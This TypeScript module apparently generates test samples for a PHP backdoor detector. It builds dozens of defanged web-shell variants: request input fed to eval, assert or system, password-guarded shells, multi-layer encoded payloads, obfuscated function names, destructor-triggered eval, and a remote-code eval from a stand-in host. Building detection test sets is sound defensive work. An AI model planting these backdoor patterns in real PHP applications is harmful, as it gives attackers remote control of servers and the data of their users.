import { type Dice } from './dice.ts'
import {
  base64,
  chrSum,
  encoders,
  escaped,
  hex,
  lettersOf,
  packed,
  quoted,
  reversed,
  rot13,
  xorPair,
} from './encoders.ts'
import { inertText, secondStage, shellCode } from './inertText.ts'

/** Where a payload may stand: any statement, only outside of functions and classes, or as a block of its own. */
export type Standing = 'statement' | 'top' | 'block'

/** A way to write a backdoor. `make` gives other names and values each time. */
export interface PayloadKind {
  readonly name: string
  readonly standing: Standing
  readonly make: (dice: Dice) => string
}

export const payloadKinds: readonly PayloadKind[] = [
  // A source goes straight into a sink.
  ...statements({
    'request eval': (dice) => `@e~val(${source(dice)});`,
    'request assert': (dice) => `@as~sert(${source(dice)});`,
    'request system': (dice) => `sys~tem(${source(dice)});`,
    'request shell': (dice) => `echo shell_~exec(${source(dice)});`,
    'request passthru': (dice) => `pass~thru(${source(dice)});`,
    'request backtick': (dice) => `echo \`{${source(dice)}}\`;`,
    'request popen': ({ name }) => {
      const [handle] = [name()]
      return `$${handle}=po~pen($_REQ~UEST['${name()}'],'r');echo fread($${handle},4096);pclose($${handle});`
    },
    'request include': (dice) => `@inc~lude($_GET['${dice.name()}']);`,
    'request callable': (dice) => `$_P~OST['${dice.name()}']($_P~OST['${dice.name()}']);`,
    call_user_func: (dice) => `call_user_~func($_GET['${dice.name()}'],$_GET['${dice.name()}']);`,
    array_map: (dice) => `array_~map('as~sert',array($_P~OST['${dice.name()}']));`,
    usort: ({ name }) => {
      const [list] = [name()]
      return `$${list}=array($_P~OST['${name()}'],'1');us~ort($${list},'as~sert');`
    },
    create_function: ({ name }) => {
      const made = name()
      return `$${made}=create_~function('',$_P~OST['${name()}']);$${made}();`
    },
    'pattern modifier': (dice) => `preg_~replace('/.*/e',${source(dice)},'');`,
    'body eval': () => "e~val(file_get_contents('php://input'));",
    'remote eval': (dice) => `e~val(file_get_~contents('http://hf-test.invalid/${dice.name()}.txt'));`,
  }),
  // The request goes through variables and tests.
  ...statements({
    'guard isset': (dice) => guarded(dice, (key) => `e~val($_P~OST['${key}']);`),
    'guard exit': (dice) => guarded(dice, (key) => `e~val($_P~OST['${key}']);exit;`),
    'guard password': ({ name }) =>
      `if(md5(@$_REQ~UEST['${name()}'])==='5f4dcc3b5aa765d61d8327deb882cf99'){e~val(base64_decode($_REQ~UEST['${name()}']));}`,
    'guard and': (dice) => {
      const key = dice.name()
      return `isset($_P~OST['${key}'])&&@e~val($_P~OST['${key}']);`
    },
    'guard ternary': (dice) => {
      const key = dice.name()
      return `isset($_P~OST['${key}'])?e~val($_P~OST['${key}']):null;`
    },
    'guard try': (dice) => `try{e~val(${source(dice)});}catch(Exception $e){}`,
    'guard cookie': ({ name }) => {
      const [call, field] = [name(), name()]
      return `if(isset($_CO~OKIE['${field}'])){$${call}=$_CO~OKIE['${field}'];$${call}($_CO~OKIE['${name()}']);}`
    },
    'guard nested': (dice) => {
      const [one, two] = [dice.name(), dice.name()]
      return `if(isset($_P~OST['${one}'])){if($_P~OST['${one}']=='${two}'){sys~tem($_P~OST['${two}']);}}`
    },
    'loop over request': ({ name }) => {
      const [key, value] = [name(), name()]
      return `foreach($_P~OST as $${key}=>$${value}){if($${key}=='hf_test'){e~val($${value});}}`
    },
    'two variables': ({ name }) => {
      const [one, two] = [name(), name()]
      return `$${one}=$_P~OST['${name()}'];$${two}=stripslashes($${one});@e~val($${two});`
    },
    'shown result': ({ name }) => {
      const result = name()
      return `$${result}=shell_~exec($_GET['${name()}']);echo "<pre>".$${result}."</pre>";`
    },
    switch: ({ name }) => {
      const action = name()
      return `switch(@$_P~OST['${action}']){case 'a':e~val($_P~OST['${action}2']);break;}`
    },
  }),
  // The code is packed.
  ...statements({
    'packed once': (dice) => `e~val(${packed(shellCode, [dice.pick(encoders)])});`,
    'packed twice': (dice) => `e~val(${packed(shellCode, [dice.pick(encoders), dice.pick(encoders)])});`,
    'packed four times': (dice) =>
      `@e~val(${packed(
        secondStage,
        [1, 2, 3, 4].map(() => dice.pick(encoders)),
      )});`,
    'packed and assert': (dice) => `as~sert(${packed(secondStage.slice(1), [dice.pick(encoders)])});`,
    'packed in a variable': (dice) => {
      const code = dice.name()
      return `$${code}=${packed(shellCode, [dice.pick(encoders), dice.pick(encoders)])};e~val($${code});`
    },
    'packed in pieces': ({ name }) => {
      const [code, text] = [name(), base64(shellCode)]
      const pieces = text.match(/.{1,20}/g) ?? []
      return `${pieces.map((piece, at) => `$${code}${at === 0 ? '' : '.'}='${piece}';`).join('')}e~val(base64_decode($${code}));`
    },
    'packed letter by letter': ({ name }) => {
      const [text, code, at] = [name(), name(), name()]
      const masked = lettersOf(shellCode)
        .map((one) => String.fromCharCode(one.charCodeAt(0) ^ 7))
        .join('')
      return `$${text}=${escaped(masked, 16)};$${code}='';for($${at}=0;$${at}<strlen($${text});$${at}++){$${code}.=chr(ord($${text}[$${at}])^7);}e~val($${code});`
    },
    'packed by its own function': ({ name }) => {
      const [decode, text] = [name(), name()]
      return `function ${decode}($${text}){return base64_decode(strrev($${text}));}e~val(${decode}('${reversed(base64(shellCode))}'));`
    },
    'junk in the text': ({ name }) => {
      const [text] = [name()]
      const dirty = base64(shellCode).replace(/(.{5})/g, '$1#!')
      return `$${text}=str_replace('#!','','${dirty}');e~val(base64_decode($${text}));`
    },
    'included stream': () => `@inc~lude('data://text/plain;base64,${base64(`<?php ${shellCode}`)}');`,
  }),
  // The name of the function is hidden.
  ...statements({
    'name split': (dice) => hiddenName(dice, "'as'.'se'.'rt'"),
    'name in hex': (dice) => hiddenName(dice, escaped('assert', 16)),
    'name in octal': (dice) => hiddenName(dice, escaped('system', 8)),
    'name of characters': (dice) => hiddenName(dice, chrSum('assert')),
    'name reversed': (dice) => hiddenName(dice, `strrev('${reversed('system')}')`),
    'name turned': (dice) => hiddenName(dice, `str_rot13('${rot13('assert')}')`),
    'name in base64': (dice) => hiddenName(dice, `base64_decode('${base64('system')}')`),
    'name packed in hex': (dice) => hiddenName(dice, `pack('H*','${hex('assert')}')`),
    'name of two strings': (dice) => hiddenName(dice, xorPair('assert')),
    'name from an alphabet': ({ name }) => {
      const [letters, call] = [name(), name()]
      const alphabet = 'abcdefghijklmnopqrstuvwxyz'
      const picked = lettersOf('assert')
        .map((one) => `$${letters}[${alphabet.indexOf(one)}]`)
        .join('.')
      return `$${letters}='${alphabet}';$${call}=${picked};$${call}($_P~OST['${name()}']);`
    },
    'name behind a name': ({ name }) => {
      const [outer, inner] = [name(), name()]
      return `$${outer}='${inner}';$$${outer}='as'.'sert';$${inner}($_P~OST['${name()}']);`
    },
    'name in an array': ({ name }) => {
      const [list] = [name()]
      return `$${list}=array('sys','tem');$${list}=implode('',$${list});$${list}($_GET['${name()}']);`
    },
    'name in globals': ({ name }) => {
      const [key] = [name()]
      return `$GLOBALS['${key}']='as'.'sert';$GLOBALS['${key}']($_P~OST['${name()}']);`
    },
    'decoder hidden': ({ name }) => {
      const [decode, code] = [name(), name()]
      return `$${decode}='base'.'64_de'.'code';$${code}=$${decode}(${quoted(base64(shellCode))});@e~val($${code});`
    },
  }),
  // Functions and classes of its own.
  ...statements({
    'own function': ({ name }) => {
      const [run, code] = [name(), name()]
      return `function ${run}($${code}){@e~val($${code});}${run}($_P~OST['${name()}']);`
    },
    'anonymous function': ({ name }) => {
      const [run, code] = [name(), name()]
      return `$${run}=function($${code}){e~val($${code});};$${run}($_P~OST['${name()}']);`
    },
    silenced: (dice) => `error_reporting(0);@set_time_limit(0);e~val(${source(dice)});`,
  }),
  ...of('top', {
    'own class': ({ name }) => {
      const [type, field, object] = [name(), name(), name()]
      return `class ${type}{public $${field};function __destruct(){@e~val($this->${field});}}$${object}=new ${type};$${object}->${field}=$_P~OST['${name()}'];`
    },
    'own constructor': ({ name }) => {
      const [type, code] = [name(), name()]
      return `class ${type}{function __construct($${code}){as~sert($${code});}}new ${type}($_REQ~UEST['${name()}']);`
    },
  }),
  // Blocks, as they are put before and behind everything.
  ...of('block', {
    block: (dice) => `<?php e~val(${packed(shellCode, [dice.pick(encoders)])}); ?>`,
    'block with marks': ({ name }) => {
      const mark = name()
      return `<?php /*${mark}*/ @inc~lude ${escaped('/tmp/hf_test/.x.ico', 8)}; /*${mark}*/ ?>`
    },
    'block with a guard': (dice) =>
      `<?php\n${guarded(dice, (key) => `\n  @e~val($_P~OST['${key}']);\n  exit;\n`)}\n?>`,
    'short block': (dice) => `<?=@e~val(${source(dice)})?>`,
  }),
]

/** What a form of an application does too: among other code it is only suspicious, or nothing. */
export const quietKinds: readonly PayloadKind[] = statements({
  upload: (dice) => {
    const field = dice.name()
    return `if(isset($_FI~LES['${field}'])){move_uploaded_~file($_FI~LES['${field}']['tmp_name'],$_FI~LES['${field}']['name']);}`
  },
  'request write': (dice) => `file_put_~contents($_P~OST['${dice.name()}'],$_P~OST['${dice.name()}']);`,
})

function statements(makers: Readonly<Record<string, PayloadKind['make']>>): readonly PayloadKind[] {
  return of('statement', makers)
}

function of(
  standing: Standing,
  makers: Readonly<Record<string, PayloadKind['make']>>,
): readonly PayloadKind[] {
  return Object.entries(makers).map(([name, make]) => ({
    name,
    standing,
    make: (dice) => inertText(make(dice)),
  }))
}

function source({ name, pick }: Dice): string {
  const key = name()
  return pick([
    `$_P~OST['${key}']`,
    `$_GET["${key}"]`,
    `$_REQ~UEST['${key}']`,
    `$_CO~OKIE['${key}']`,
    `$_SER~VER['HTTP_X_${key.toUpperCase()}']`,
  ])
}

function guarded({ name }: Dice, body: (key: string) => string): string {
  const key = name()
  return `if(isset($_P~OST['${key}'])){${body(key)}}`
}

function hiddenName(dice: Dice, expression: string): string {
  const call = dice.name()
  return `$${call}=${expression};$${call}(${source(dice)});`
}
